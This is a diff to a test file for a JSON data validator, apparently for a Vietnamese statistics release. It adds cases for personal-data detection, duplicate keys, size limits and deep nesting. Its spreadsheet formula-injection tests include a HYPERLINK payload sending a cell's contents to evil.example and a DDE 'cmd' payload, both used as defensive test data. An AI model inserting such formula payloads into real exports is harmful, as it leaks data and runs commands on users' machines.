@@ -1,6 +1,7 @@
-import { writeFileSync, rmSync, mkdirSync } from 'node:fs';
+import { mkdirSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
+import { formatText } from '../src/domain/validation/format-report.ts';
 import { validate } from '../src/domain/validation/validate.ts';
 import { MINI_RELEASE, writeMini, type MiniFiles } from './fixtures/mini.ts';
 
@@ -74,6 +75,18 @@ const cases: [string, string, string, (f: MiniFiles) => void][] = [
   ['current-unknown', 'releases/index.json', '/current', (f) => { f.manifest.current = '2026.1'; }],
   ['current-status', 'releases/index.json', '/current', (f) => { f.manifest.releases[0].status = 'draft'; }],
   ['release-missing', 'releases/index.json', '/releases/1/id', (f) => { f.manifest.releases.push({ id: '2026.1', title: 'Chưa có', status: 'draft' }); }],
+  ['year-outside-vintage', `${R}/observations.json`, '/observations/25/year', (f) => { f.observations.observations[25].year = 2024; f.observations.observations[26].year = 2024; f.observations.observations[27].year = 2020; f.observations.observations[27].vintage = '2025-07'; f.observations.observations[24].year = 2020; f.observations.observations[24].vintage = '2020-01'; }],
+  ['formula-like-text', `${R}/units.json`, '/vintages/0/units/3/name', (f) => { f.units.vintages[0].units[3].name = '=HYPERLINK("http://evil.example/?x="&A1,"x")'; }],
+  ['formula-like-text', `${R}/observations.json`, '/sources/0/title', (f) => { f.observations.sources[0].title = "=cmd|' /C calc'!A0"; }],
+  ['formula-like-text', `${R}/recognitions.json`, '/recognitions/0/recipient/name', (f) => { f.recognitions.recognitions[0].recipient.name = '@SUM(1+1)'; }],
+  ['formula-like-text', `${R}/crosswalks.json`, '/sources/0/issuer', (f) => { f.crosswalks.sources[0].issuer = '+1+1'; }],
+  ['formula-like-text', 'releases/index.json', '/releases/0/notes', (f) => { f.manifest.releases[0].notes = '-2+3+cmd'; }],
+  ['personal-data-phone', `${R}/recognitions.json`, '/recognitions/0/recipient/name', (f) => { f.recognitions.recognitions[0].recipient.name = 'Ông Nông Văn A, SĐT 0912\u00a0345\u00a0678'; f.recognitions.recognitions[0].recipient.kind = 'individual'; }],
+  ['personal-data-id-number', `${R}/recognitions.json`, '/sources/0/note', (f) => { f.recognitions.sources[0].note = 'người nhận: CCCD 001 092 012 345'; }],
+  ['personal-data-email', 'releases/index.json', '/releases/0/notes', (f) => { f.manifest.releases[0].notes = 'Hỏi thêm: nva@gmail.com'; }],
+  ['personal-data-street-address', `${R}/units.json`, '/sources/0/note', (f) => { f.units.sources[0].note = 'Lưu tại Số 12 Trần Đăng Ninh'; }],
+  ['personal-data-social-link', `${R}/observations.json`, '/sources/1/url', (f) => { f.observations.sources[1].url = 'https://zalo.me/0903123456'; }],
+  ['name-not-normalized', `${R}/recognitions.json`, '/recognitions/0/recipient/name', (f) => { f.recognitions.recognitions[0].recipient.name = 'Cán bộ và Nhân dân xã Hoa Tha\u0301m '; }],
   ['draft-hashes', 'releases/index.json', '/releases/0/sha256', (f) => { f.manifest.current = '2024.1'; f.manifest.releases.push({ id: '2024.1', title: 'Cũ', status: 'published', sha256: {} }); f.manifest.releases[0].status = 'draft'; f.manifest.releases[0].sha256 = {}; }],
 ];
 
@@ -125,9 +138,34 @@ describe('rules about files and hashes', () => {
     });
     expect(report.errors.some((e) => e.rule === 'schema' && e.file === 'criteria/2021-2025.json')).toBe(true);
   });
-  it('warns about a year outside the vintage', () => {
-    const report = run((f) => { f.observations.observations.find((o: any) => o.unit === '20001').year = 2024; f.observations.observations.find((o: any) => o.unit === '20002').year = 2024; f.observations.observations.at(-1).year = 2024; f.observations.observations.at(-1).vintage = '2025-07'; });
-    expect(report.warnings).toContainEqual(expect.objectContaining({ rule: 'year-outside-vintage', path: '/observations/25/year', value: 2024 }));
+  it('refuses a UTF-8 byte-order mark, naming the file', () => {
+    const report = run(undefined, { after: (dataRoot) => {
+      const file = path.join(dataRoot, 'releases', 'index.json');
+      writeFileSync(file, '\uFEFF' + readFileSync(file, 'utf8'));
+    } });
+    expect(report.errors).toEqual([expect.objectContaining({ rule: 'json-bom', file: 'releases/index.json', path: '' })]);
+  });
+  it('refuses a key written twice, at its JSON path', () => {
+    const report = run(undefined, { rehash: false, after: (dataRoot) => {
+      const file = path.join(dataRoot, R, 'observations.json');
+      writeFileSync(file, readFileSync(file, 'utf8').replace('"poor": 400,', '"poor": 400,\n      "poor": 40,'));
+    } });
+    expect(report.errors).toContainEqual(expect.objectContaining({ rule: 'json-duplicate-key', file: `${R}/observations.json`, path: '/observations/0/poor', value: 'poor' }));
+  });
+  it('refuses a data file over the size limit without reading it', async () => {
+    const { MAX_JSON_BYTES } = await import('../src/domain/validation/json-file.ts');
+    const report = run(undefined, { after: (dataRoot) => truncateSync(path.join(dataRoot, R, 'recognitions.json'), MAX_JSON_BYTES + 1) });
+    expect(report.errors).toContainEqual(expect.objectContaining({ rule: 'file-too-large', file: `${R}/recognitions.json`, path: '' }));
+  });
+  it('reports a value nested 5,000 deep without overflowing, cut to a few levels', () => {
+    const report = run(undefined, { after: (dataRoot) => {
+      const file = path.join(dataRoot, R, 'observations.json');
+      writeFileSync(file, readFileSync(file, 'utf8').replace('"poor": 400,', `"poor": ${'['.repeat(5000)}${']'.repeat(5000)},`));
+    } });
+    const problem = report.errors.find((e) => e.path === '/observations/0/poor')!;
+    expect(problem.rule).toBe('count-non-negative-integer');
+    expect(JSON.stringify(problem.value)).toBe('[[["[… 1 phần tử]"]]]');
+    expect(formatText(report)).toContain('releases/2025.1/observations.json:/observations/0/poor');
   });
   it('keeps going after the first error and bounds the list', () => {
     const { root, dataRoot } = writeMini((f) => { for (const o of f.observations.observations) o.households = -1; });
